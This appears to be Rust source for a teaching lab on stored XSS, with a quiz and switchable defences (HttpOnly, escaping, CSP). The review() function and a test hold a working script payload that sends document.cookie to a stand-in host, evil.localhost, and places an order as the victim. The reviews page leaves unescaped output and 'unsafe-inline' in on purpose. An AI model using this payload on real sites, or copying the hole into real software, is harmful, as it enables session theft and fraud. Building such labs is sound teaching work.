//! Steal: a script in a review reads the customer's cookies and sends them to the attacker (stored cross-site
//! scripting, XSS).

use rocket::form::{Form, FromForm};
use rocket::{Route, State, get, post, routes};

use crate::book::attacks::lab::{Begins, Defence, Lab, Lure, NewLogin};
use crate::book::attacks::lab_world::LabWorld;
use crate::book::attacks::notes::Did;
use crate::book::attacks::visit::{Evil, Shop};
use crate::book::question::{Answer, Why};
use crate::evidence::Exemption::Demo;
use crate::evidence::because;
use crate::html::escape;
use crate::http::lab_hosts::{self, LabHost};
use crate::http::lab_page::LabAnswer;
use crate::lang::Text;
use crate::loopback::Loopback;

/// The lab of the stolen session cookie.
pub const LAB: Lab = Lab {
    slug: "steal",
    section: "stolen",
    title: Text { zh: "偷（XSS）", en: "Steal (XSS)" },
    story: Text {
        zh: "<code>mallory</code> 在商店写了一条评价，评价里有一段 <code>&lt;script&gt;</code>。商店把它原样放进页面。<code>alice</code> 登录，打开评价页。她的浏览器运行那段脚本：读 <code>document.cookie</code>，发给 <code>evil.localhost</code>。<code>mallory</code> 的程序带着偷来的 cookie 去商店。",
        en: "<code>mallory</code> writes a review at the shop; in it is a <code>&lt;script&gt;</code>. The shop puts the review into its page as it is. <code>alice</code> logs in and opens the reviews. Her browser runs the script, which reads <code>document.cookie</code> and sends it to <code>evil.localhost</code>. With the stolen cookie Mallory’s program goes to the shop.",
    },
    question: Why {
        id: "steal",
        see: "attacks#stolen",
        asks: Text {
            zh: "脚本是 <code>mallory</code> 写的，存在商店的评价里。它在谁的源（origin）里运行？",
            en: "Mallory wrote the script, and it lies in a review of the shop. In whose origin does it run?",
        },
        evidence: &[because(Demo)],
        answers: &[
            Answer {
                right: false,
                label: Text {
                    zh: "<code>evil.localhost</code>：脚本是他的",
                    en: "<code>evil.localhost</code>: it is his script",
                },
                because: Text {
                    zh: "源看的是页面的地址，不是谁写的。页面是商店的。",
                    en: "The origin is that of the page’s address, whoever wrote the script. The page is the shop’s.",
                },
            },
            Answer {
                right: true,
                label: Text {
                    zh: "<code>shop.localhost</code>，和商店自己的脚本一样",
                    en: "<code>shop.localhost</code>, like the shop’s own scripts",
                },
                because: Text {
                    zh: "所以它读得到商店的 cookie，也能以 <code>alice</code> 的身份下单。",
                    en: "So it can read the shop’s cookies, and order as Alice too.",
                },
            },
            Answer {
                right: false,
                label: Text {
                    zh: "哪里也不运行：<code>SameSite</code> 拦下了",
                    en: "Nowhere: <code>SameSite</code> stops it",
                },
                because: Text {
                    zh: "<code>SameSite</code> 看请求从哪个站点发起。脚本就在商店的页面里，是同站的。",
                    en: "<code>SameSite</code> is about the site that starts a request. The script is in the shop’s own page, which is the same site.",
                },
            },
        ],
    },
    defences: &[
        Defence::new(
            "off",
            "会话令牌的 cookie 没有 <code>HttpOnly</code>",
            "no <code>HttpOnly</code> on the session cookie",
        ),
        Defence::new("httponly", "<code>HttpOnly</code>", "<code>HttpOnly</code>"),
        Defence::new("escape", "评价转义后才放进页面", "reviews are escaped"),
        Defence::new(
            "csp",
            "<code>Content-Security-Policy</code> 不许内联脚本",
            "a <code>Content-Security-Policy</code> without inline scripts",
        ),
    ],
    switch: 1,
    differs: &[],
    begins: Begins::AtEvil("/write"),
    cookies,
    lure: Some(Lure {
        at: LabHost::Shop,
        path: "/reviews",
        says: Text { zh: "看看评价", en: "Read the reviews" },
    }),
    ways: &[],
    judge,
    routes,
    posts,
};

const WROTE: Did =
    Did::new("wrote", "（mallory 的评价，写好了）", "(Mallory’s review, ready)");
const TOOK: Did = Did::new("took", "收下一条评价", "took a review");
const RAW: Did = Did::new("raw", "把评价原样放进页面", "put the review in as it is");
const ESCAPED: Did = Did::new("escaped", "评价转义后放进页面", "escaped the review");
const STRICT: Did = Did::new(
    "strict",
    "原样放进页面，但策略不许内联脚本",
    "put the review in as it is, with a policy against inline scripts",
);
const LOOT: Did = Did::new("loot", "到手：{}", "got hold of {}");
const NOTHING: Did = Did::new(
    "nothing",
    "脚本运行了，没有读到 cookie",
    "the script ran, and read no cookie",
);
const WENT_ON: Did =
    Did::new("went-on", "alice 看完了评价", "alice has read the reviews");

fn routes() -> Vec<Route> {
    routes![write, reviews, left, loot]
}

fn posts() -> Vec<Route> {
    routes![take]
}

/// The line of the login, by the defence that is switched on.
fn cookies(login: &NewLogin<'_>) -> Vec<String> {
    let NewLogin { token, path, defence, .. } = login;
    let http_only = if *defence == "httponly" { "; HttpOnly" } else { "" };
    vec![format!("shop_session={token}; Path={path}; SameSite=Lax{http_only}")]
}

/// Whether the page takes the review as it is, with a policy under which its script runs.
fn is_open(defence: &str) -> bool {
    ["off", "httponly"].contains(&defence)
}

/// What counts is the page that the shop gave to the attacker's program, which has only what the script has sent.
fn judge(lab: &LabWorld) -> Option<bool> {
    let defence = LAB.defences.get(lab.defence).map_or("", |it| it.name);
    // Where the script does not run, nothing arrives until the customer has gone on.
    let failed = lab.noted(&NOTHING).is_some()
        || !is_open(defence) && lab.noted(&WENT_ON).is_some();
    lab.shown_to_program().or(failed.then_some(false))
}

/// The text of the attacker's review.
fn review(evil: &Evil<'_>) -> String {
    let loot = evil.url(LabHost::Evil, "/loot?c=");
    format!(
        "<script>fetch(\"{loot}\"+encodeURIComponent(document.cookie),{{mode:\"no-cors\",keepalive:true}});\
         fetch(\"order\",{{method:\"POST\",body:new URLSearchParams({{text:\"for mallory\"}})}})</script>"
    )
}

/// The page on which the attacker writes the review.
#[get("/<_>/steal/write")]
fn write(evil: Evil<'_>) -> LabAnswer {
    evil.did(&WROTE, "");
    let text = review(&evil);
    let shown = format!("<pre><code>{}</code></pre>", escape(&text));
    let to = evil.url(LabHost::Shop, "/write-review");
    let page = evil.page(&DESK).p(&DESK_LEAD).html(&shown);
    page.next_form(&to, &[("text", &text)], &POST).done()
}

/// What a review sends.
#[derive(FromForm)]
struct SentReview<'f> {
    text: &'f str,
}

/// Takes a review, from anybody.
#[post("/<_>/steal/write-review", data = "<form>")]
fn take(shop: Shop<'_>, form: Form<SentReview<'_>>) -> LabAnswer {
    shop.did(&TOOK, "");
    shop.change(|lab| lab.keep("review", form.text));
    shop.to("")
}

#[get("/<_>/steal/reviews")]
fn reviews(shop: Shop<'_>) -> LabAnswer {
    let text = shop.change(|lab| lab.kept("review").unwrap_or_default().to_owned());
    let (did, text) = match shop.defence() {
        "escape" => (&ESCAPED, escape(&text)),
        "csp" => (&STRICT, text),
        _ => (&RAW, text),
    };
    shop.did(did, "");
    let list = format!("<ul><li><b>mallory</b>: {text}</li></ul>");
    let page = shop.page(&REVIEWS).html(&list);
    let strict = lab_hosts::policy(page.port());
    let policy = match is_open(shop.defence()) {
        // The hole, in this page alone.
        true => format!("{strict}; script-src 'self' 'unsafe-inline'"),
        false => strict,
    };
    page.policy(policy).next_link(&shop.url(LabHost::Shop, "/left"), &GO_ON).done()
}

/// The last page: what was ordered in the customer's name.
#[get("/<_>/steal/left")]
fn left(shop: Shop<'_>) -> LabAnswer {
    shop.did(&WENT_ON, "");
    let orders = shop.change(|lab| {
        let orders = lab.shop.orders_of("alice");
        orders
            .into_iter()
            .map(|it| format!("<li>{}</li>", escape(it)))
            .collect::<String>()
    });
    let lead = if orders.is_empty() { &NO_ORDERS } else { &ORDERS };
    shop.page(&ORDERED).p(lead).html(&format!("<ul>{orders}</ul>")).over()
}

/// What the script has sent arrives. The attacker's program uses it at once.
#[get("/<_>/steal/loot?<c>")]
async fn loot(
    evil: Evil<'_>,
    c: Option<&str>,
    loopback: &State<Loopback>,
) -> LabAnswer {
    match c.filter(|it| it.contains("shop_session")) {
        Some(cookie) => {
            evil.did(&LOOT, cookie);
            evil.ask_by_program(loopback, cookie).await;
        }
        None => evil.did(&NOTHING, ""),
    }
    evil.page(&DESK).done()
}

const DESK: Text = Text { zh: "mallory 的桌子", en: "Mallory’s desk" };
const DESK_LEAD: Text = Text {
    zh: "这一步你是 <code>mallory</code>。他写给商店的评价：",
    en: "For this step you are <code>mallory</code>. The review that he writes:",
};
const POST: Text = Text { zh: "发表评价", en: "Post the review" };
const REVIEWS: Text = Text { zh: "评价", en: "Reviews" };
const GO_ON: Text = Text { zh: "看完了", en: "Go on" };
const ORDERED: Text = Text { zh: "alice 的订单", en: "Alice’s orders" };
const ORDERS: Text = Text {
    zh: "alice 没有下过这些订单：是脚本下的。",
    en: "Alice has ordered none of these: the script has.",
};
const NO_ORDERS: Text = Text { zh: "没有订单。", en: "There are none." };

#[cfg(test)]
mod tests {
    use super::*;
    use crate::book::attacks::notes::Noted;

    fn note(lab: &mut LabWorld, did: &'static Did, detail: &str, by_program: bool) {
        let mut noted = Noted::new(LabHost::Shop, "GET", "", [None; 3]);
        noted.by_program = by_program;
        let note = lab.note(noted);
        lab.did(note, did, detail);
    }

    #[test]
    fn the_account_counts_that_was_shown_to_the_program() {
        static ACCOUNT: Did = Did::new("account", "", "{}");
        let mut lab = LabWorld::default();
        note(&mut lab, &ACCOUNT, "alice", false);
        note(&mut lab, &WENT_ON, "", false);
        assert_eq!(
            judge(&lab),
            None,
            "the customer's own page, and nothing arrived yet"
        );
        lab.defence = LAB.defence("escape").unwrap();
        assert_eq!(judge(&lab), Some(false));
        note(&mut lab, &ACCOUNT, "alice", true);
        assert_eq!(judge(&lab), Some(true));
    }

    #[test]
    fn a_review_is_kept_whole() {
        let world = "0".repeat(32);
        let loot = format!("http://evil.localhost:65535/w/{world}/steal/loot?c=");
        let text = "<script>fetch(\"\"+encodeURIComponent(document.cookie),{mode:\"no-cors\",keepalive:true});\
                    fetch(\"order\",{method:\"POST\",body:new URLSearchParams({text:\"for mallory\"})})</script>";
        assert!(loot.len() + text.len() <= 400);
    }
}
